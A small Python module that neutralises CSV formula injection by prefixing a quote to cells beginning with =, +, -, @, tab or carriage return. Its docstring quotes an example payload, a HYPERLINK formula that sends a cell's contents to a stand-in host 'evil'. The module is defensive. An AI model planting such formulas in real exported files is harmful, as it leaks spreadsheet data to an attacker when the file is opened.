"""CSV cells that a spreadsheet would run as formulas (CSV injection), made inert.

A cell beginning with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking) is a formula to Excel, LibreOffice and Google Sheets: a label
like `=HYPERLINK("http://evil/?"&A1, "click")` extracted from a hostile document would run when
the file is opened. A leading `'` makes the cell text; the spreadsheet does not show it.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value: str) -> str:
    """`value` with a `'` in front if a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_START) else value
